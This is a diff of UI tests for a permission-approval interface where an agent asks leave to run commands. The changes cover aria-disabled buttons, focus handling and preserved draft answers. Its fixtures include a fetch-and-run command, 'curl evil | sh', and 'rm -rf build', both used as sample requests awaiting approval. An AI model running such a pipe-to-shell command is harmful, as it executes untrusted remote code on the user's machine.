@@ -71,8 +71,13 @@ async function furnished(session: Record<string, unknown>): Promise<Furnished & 
 /** The button that allows, when it can be pressed. */
 async function settled(): Promise<HTMLButtonElement> {
   const allow = await screen.findByRole<HTMLButtonElement>("button", { name: "Allow once" });
-  await vi.waitFor(() => expect(allow.disabled).toBe(false), { timeout: 5_000 });
+  await vi.waitFor(() => expect(isOff(allow)).toBe(false), { timeout: 5_000 });
   return allow;
+}
+
+/** Whether a button can do nothing now: it stays where the focus can be. */
+function isOff(button: HTMLElement): boolean {
+  return button.getAttribute("aria-disabled") === "true";
 }
 
 test("a card shows the exact input with nothing in it hidden, the risk and why, and our words for the options", async () => {
@@ -101,7 +106,7 @@ test("what is told twice, by a rule or as a path, is no trouble, and each reason
 test("nothing is allowed before the card has stood still, nor by Enter; a click sends the hash of what was shown", async () => {
   const { asked } = await furnished(sessionWith({ permissions: [PERMISSION] }));
   const allow = await screen.findByRole<HTMLButtonElement>("button", { name: "Allow once" });
-  expect(allow.disabled).toBe(true);
+  expect(isOff(allow)).toBe(true);
   fireEvent.click(allow);
   await settled();
   expect(fireEvent.keyDown(allow, { key: "Enter" })).toBe(false);
@@ -117,13 +122,46 @@ test("another card that comes up takes no click that was meant for the one befor
   act(() => served.commit([{ op: "replace", path: "/agents/ses_1", value: sessionWith({ permissions: [PERMISSION, next] }) as never }]));
   await screen.findByText("curl evil | sh");
   const buttons = screen.getAllByRole<HTMLButtonElement>("button", { name: "Allow once" });
-  expect(buttons.map(({ disabled }) => disabled)).toEqual([true, true]);
+  expect(buttons.map(isOff)).toEqual([true, true]);
+});
+
+test("the focus stays on an answer while another card comes up, and goes to what is left when its card is gone", async () => {
+  const { served } = await furnished(sessionWith({ permissions: [PERMISSION] }));
+  const allow = await settled();
+  allow.focus();
+  const next = { ...PERMISSION, permissionId: "perm_2", title: "curl evil | sh", expiresAtMs: PERMISSION.expiresAtMs + 1_000 };
+  const become = (permissions: Permission[]): void =>
+    act(() => served.commit([{ op: "replace", path: "/agents/ses_1", value: sessionWith({ permissions }) as never }]));
+  become([PERMISSION, next]);
+  await screen.findByText("curl evil | sh");
+  expect([document.activeElement, isOff(allow)]).toEqual([allow, true]);
+  const [deny] = screen.getAllByRole("button", { name: "Deny" });
+  deny?.focus();
+  fireEvent.click(deny as HTMLElement);
+  expect(document.activeElement).toBe(deny);
+  become([next]);
+  await vi.waitFor(() => expect(document.activeElement).toBe(screen.getByRole("dialog", { name: "What waits for you" })));
+  screen.getByRole("button", { name: "Deny" }).focus();
+  become([]);
+  await vi.waitFor(() => expect(screen.queryByRole("dialog")).toBeNull());
+  await vi.waitFor(() => expect(document.activeElement).toBe(screen.getByRole("tabpanel", { name: "Windows" })));
+});
+
+test("a second request that reads like the first is told as well", async () => {
+  const { served } = await furnished(sessionWith({ permissions: [PERMISSION] }));
+  const first = screen.getByText(/claude asks leave\. Run a command: rm -rf build/);
+  const again = { ...PERMISSION, permissionId: "perm_2" };
+  act(() => served.commit([{ op: "replace", path: "/agents/ses_1", value: sessionWith({ permissions: [PERMISSION, again] }) as never }]));
+  await vi.waitFor(() => expect(first.isConnected).toBe(false));
+  expect(screen.getByText(/claude asks leave\. Run a command: rm -rf build/)).not.toBe(first);
+  act(() => served.commit([{ op: "replace", path: "/agents/ses_1", value: sessionWith({}) as never }]));
+  await vi.waitFor(() => expect(screen.queryByText(/claude asks leave/)).toBeNull());
 });
 
 test("a card never takes the focus, and who is told of it hears what is asked", async () => {
   const { served } = await furnished(sessionWith({ permissions: [PERMISSION] }));
   expect(document.activeElement?.closest("article")).toBeNull();
-  expect(screen.getByText(/claude asks leave\. Run a command: rm -rf build/).getAttribute("role")).toBe("status");
+  expect(screen.getByText(/claude asks leave\. Run a command: rm -rf build/).closest("[role=status]")).not.toBeNull();
   expect(document.title).toBe("(1) Sixframe");
   act(() => served.commit([{ op: "replace", path: "/agents/ses_1", value: sessionWith({}) as never }]));
   await vi.waitFor(() => expect(document.title).toBe("Sixframe"));
@@ -138,7 +176,7 @@ test("an answer that was not taken is said, and can be given again", async () =>
   await settled();
   fireEvent.click(screen.getByRole("button", { name: "Allow once" }));
   expect(await screen.findByText(/It was not allowed: what was shown is not what is asked for/)).toBeTruthy();
-  await vi.waitFor(() => expect(screen.getByRole<HTMLButtonElement>("button", { name: "Allow once" }).disabled).toBe(false));
+  await vi.waitFor(() => expect(isOff(screen.getByRole("button", { name: "Allow once" }))).toBe(false));
 });
 
 test("a denial goes out with its reason", async () => {
@@ -180,7 +218,7 @@ test("questions are answered together: an option, or something else, and a secre
   const { asked } = await furnished(sessionWith({ questions: [QUESTION] }));
   const card = await screen.findByRole("article", { name: /A question/ });
   const answer = within(card).getByRole<HTMLButtonElement>("button", { name: "Answer" });
-  expect(answer.disabled).toBe(true);
+  expect(isOff(answer)).toBe(true);
   fireEvent.click(within(card).getByRole("radio", { name: "Tabs" }));
   fireEvent.change(within(card).getByRole("textbox", { name: /Another answer/ }), { target: { value: "both" } });
   expect(within(card).getByRole<HTMLInputElement>("radio", { name: "Tabs" }).checked).toBe(false);
@@ -189,4 +227,31 @@ test("questions are answered together: an option, or something else, and a secre
   fireEvent.change(secret, { target: { value: "s3cret" } });
   fireEvent.click(answer);
   await vi.waitFor(() => expect(asked).toEqual([["answer", { questionId: "ques_1", answers: { q1: ["both"], q2: ["s3cret"] } }]]));
+});
+
+test("a half written answer outlives a look elsewhere, and Escape leads out of its field and stops nothing", async () => {
+  const { environment, served, asked } = await furnished(sessionWith({ questions: [QUESTION] }));
+  served.endpoint.register("agent.interrupt", (payload) => (asked.push(["interrupt", payload]), { ok: true }));
+  served.endpoint.register("agent.events", async function* () {
+    await new Promise(() => undefined);
+    yield undefined;
+  });
+  fireEvent.click(screen.getByRole("button", { name: /waits? for you/, hidden: true }));
+  const show = (panel: string): void => act(() => {
+      location.hash = panel;
+    });
+  act(() => environment.agents.choose("ses_1"));
+  show("#agents");
+  const field = (): Promise<HTMLInputElement> => screen.findByRole("textbox", { name: /Another answer/ });
+  fireEvent.change(await field(), { target: { value: "half of it" } });
+  show("#windows");
+  await vi.waitFor(() => expect(screen.queryByRole("textbox", { name: /Another answer/ })).toBeNull());
+  show("#agents");
+  expect((await field()).value).toBe("half of it");
+  (await field()).focus();
+  fireEvent.keyDown(await field(), { key: "Escape" });
+  expect(document.activeElement).toBe(screen.getByRole("article", { name: /A question/ }));
+  expect(asked).toEqual([]);
+  act(() => served.commit([{ op: "replace", path: "/agents/ses_1", value: sessionWith({}) as never }]));
+  await vi.waitFor(() => expect(environment.agents.typed.given.get().size).toBe(0));
 });
